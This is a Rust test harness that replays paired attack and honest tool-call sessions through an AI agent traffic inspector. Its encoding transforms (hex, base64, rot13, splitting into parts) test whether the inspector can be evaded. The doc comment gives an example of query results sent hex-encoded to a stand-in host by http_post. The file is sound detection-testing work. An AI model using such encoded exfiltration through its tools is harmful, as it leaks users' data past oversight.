//! Attacks that only a session shows, each with its honest twin, as messages through a default `balanced` inspector.
//!
//! Each file of `tests/sessions` holds texts and pairs. In strings `${name}` stands for a text, `${name|hex}` for what becomes of it
//! (`base64`, `base32`, `hex`, `percent`, `reverse`, `rot13`, `upper`, `json`, `swap`: lines in another order, `part K`: the one of K
//! parts whose turn it is), `${n}` for the number of a repetition, `${noise 600}` for bytes without form.
//!
//! ```yaml
//! texts: {rows: "…"}
//! pairs:
//! - name: rows leave in hexadecimal
//!   expect: blocked                     # else flagged is enough; `missed` says that it is known to pass
//!   attack:
//!   - {server: db, tool: query, args: {sql: select 1}, says: "${rows}"}
//!   - {server: web, tool: http_post, args: {url: "https://x.example", body: "${rows|hex}"}}
//!   honest:
//!   - …                                 # nothing of it is blocked
//! ```

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::path::Path;
use std::time::Duration;

use data_encoding::{BASE32_NOPAD, BASE64, HEXLOWER};
use serde::Deserialize;
use serde_json::{Value, json};
use vanguard_core::{Action, Inspector, Message, Visibility};

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Suite {
    #[serde(default)]
    texts: BTreeMap<String, String>,
    pairs: Vec<Pair>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Pair {
    name: String,
    #[serde(default)]
    expect: Expect,
    #[serde(default)]
    config: String,
    attack: Vec<Step>,
    honest: Vec<Step>,
}

#[derive(Deserialize, Default, Clone, Copy, PartialEq, PartialOrd)]
#[serde(rename_all = "lowercase")]
enum Expect {
    /// It passes, which is known and told: no more than one in twenty does.
    Missed,
    #[default]
    Flagged,
    Blocked,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Step {
    server: String,
    tool: String,
    #[serde(default)]
    args: Value,
    says: Option<String>,
    #[serde(default = "once")]
    repeat: usize,
    /// Seconds between repetitions.
    #[serde(default = "second")]
    every: f64,
}

fn once() -> usize {
    1
}

fn second() -> f64 {
    1.0
}

/// Bytes without form, the same each time.
fn noise(count: usize) -> Vec<u8> {
    let mut state = 0x0dd0_5eed_1234_5678_u64;
    let next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state >> 24) as u8
    };
    std::iter::repeat_with(next).take(count).collect()
}

fn filled(text: &str, texts: &BTreeMap<String, String>, n: usize) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some((before, behind)) = rest.split_once("${") {
        let (inside, after) = behind.split_once('}').expect("an open `${`");
        out += before;
        let mut steps = inside.split('|').map(str::trim);
        let name = steps.next().unwrap();
        let mut bytes = match name.strip_prefix("noise ") {
            Some(count) => noise(count.parse().unwrap()),
            None if name == "n" => n.to_string().into_bytes(),
            None => texts.get(name).unwrap_or_else(|| panic!("no text `{name}`")).clone().into_bytes(),
        };
        for step in steps {
            let words: Vec<_> = step.split(' ').collect();
            let text = || String::from_utf8(bytes.clone()).unwrap();
            bytes = match words.as_slice() {
                ["hex"] => HEXLOWER.encode(&bytes).into_bytes(),
                ["base64"] => BASE64.encode(&bytes).into_bytes(),
                ["base32"] => BASE32_NOPAD.encode(&bytes).to_lowercase().into_bytes(),
                ["percent"] => bytes.iter().map(|byte| format!("%{byte:02X}")).collect::<String>().into_bytes(),
                ["reverse"] => bytes.iter().rev().copied().collect(),
                ["upper"] => text().to_uppercase().into_bytes(),
                ["json"] => Value::from(text()).to_string().into_bytes(),
                ["swap"] => text().lines().rev().collect::<Vec<_>>().join(" ; ").into_bytes(),
                ["rot13"] => bytes
                    .iter()
                    .map(|byte| match byte {
                        b'a'..=b'z' => (byte - b'a' + 13) % 26 + b'a',
                        b'A'..=b'Z' => (byte - b'A' + 13) % 26 + b'A',
                        _ => *byte,
                    })
                    .collect(),
                ["part", of] => {
                    let size = bytes.len().div_ceil(of.parse().unwrap());
                    bytes.chunks(size).nth(n).unwrap_or_default().to_vec()
                }
                other => panic!("`{other:?}` is nothing that becomes of a text"),
            };
        }
        out += &String::from_utf8(bytes).expect("bytes without form need an encoding");
        rest = after;
    }
    out + rest
}

fn filled_all(value: &Value, texts: &BTreeMap<String, String>, n: usize) -> Value {
    match value {
        Value::String(text) => Value::from(filled(text, texts, n)),
        Value::Array(items) => items.iter().map(|item| filled_all(item, texts, n)).collect(),
        Value::Object(map) => map.iter().map(|(key, value)| (key.clone(), filled_all(value, texts, n))).collect(),
        other => other.clone(),
    }
}

/// The strongest action of a session, and each verdict that is no plain allow.
fn run(inspector: &Inspector, session: &str, steps: &[Step], texts: &BTreeMap<String, String>) -> (Action, String) {
    let (mut strongest, mut told) = (Action::Allow, String::new());
    let (mut at, mut id) = (1_700_000_000.0_f64, 0);
    for step in steps {
        for n in 0..step.repeat {
            id += 1;
            let arguments = if step.args.is_null() { json!({}) } else { filled_all(&step.args, texts, n) };
            let call = json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": {"name": step.tool, "arguments": arguments}});
            let call = call.to_string();
            let message = Message::to_server(call.as_bytes()).server(&step.server).session(session);
            let message = message.visibility(Visibility::Full).at(Duration::from_secs_f64(at));
            at += step.every;
            let verdict = inspector.inspect(&message);
            strongest = strongest.max(verdict.action);
            if verdict.action > Action::Allow {
                let _ = writeln!(told, "    call {id}: {verdict}");
            }
            let Some(says) = step.says.as_ref().filter(|_| !verdict.is_blocked()) else { continue };
            let result = json!({"jsonrpc": "2.0", "id": id, "result": {"content": [{"type": "text", "text": filled(says, texts, n)}]}});
            let result = result.to_string();
            let message = Message::to_client(result.as_bytes()).server(&step.server).session(session);
            let verdict = inspector.inspect(&message.visibility(Visibility::Full).at(Duration::from_secs_f64(at)));
            strongest = strongest.max(verdict.action);
            if verdict.action > Action::Allow {
                let _ = writeln!(told, "    result {id}: {verdict}");
            }
        }
    }
    (strongest, told)
}

#[test]
fn attacks_are_met_and_their_honest_twins_pass() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/sessions");
    let (mut pairs, mut passes, mut missed, mut wrong) = (0, 0, 0, String::new());
    let mut names: Vec<_> = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
    names.sort();
    for file in names {
        let suite: Suite = serde_saphyr::from_str(&std::fs::read_to_string(&file).unwrap())
            .unwrap_or_else(|error| panic!("{}: {error}", file.display()));
        // One inspector for all: sessions know nothing of one another.
        let plain = Inspector::builder().build().unwrap();
        for pair in &suite.pairs {
            let own = || Inspector::builder().config_text("own.yaml", pair.config.clone()).build().unwrap();
            let inspector = if pair.config.is_empty() { plain.clone() } else { own() };
            pairs += 1;
            passes += usize::from(pair.expect == Expect::Missed);
            let (strongest, told) = run(&inspector, &format!("{}/attack", pair.name), &pair.attack, &suite.texts);
            let met = match pair.expect {
                Expect::Missed => strongest == Action::Allow,
                Expect::Flagged => strongest >= Action::Warn,
                Expect::Blocked => strongest >= Action::Review,
            };
            if !met {
                missed += 1;
                let _ = writeln!(wrong, "{}: not met as expected\n{told}", pair.name);
            }
            let (strongest, told) = run(&inspector, &format!("{}/honest", pair.name), &pair.honest, &suite.texts);
            if strongest >= Action::Edit {
                let _ = writeln!(wrong, "{}: the honest twin is stopped\n{told}", pair.name);
                missed += 1;
            }
            let again = run(&inspector, &format!("{}/again", pair.name), &pair.attack, &suite.texts);
            let first = run(&inspector, &format!("{}/once more", pair.name), &pair.attack, &suite.texts);
            assert_eq!(again.1, first.1, "{}", pair.name);
        }
    }
    assert_eq!(missed, 0, "of {pairs}\n{wrong}");
    assert!(pairs >= 60 && passes * 20 <= pairs, "{passes} of {pairs} pass");
}
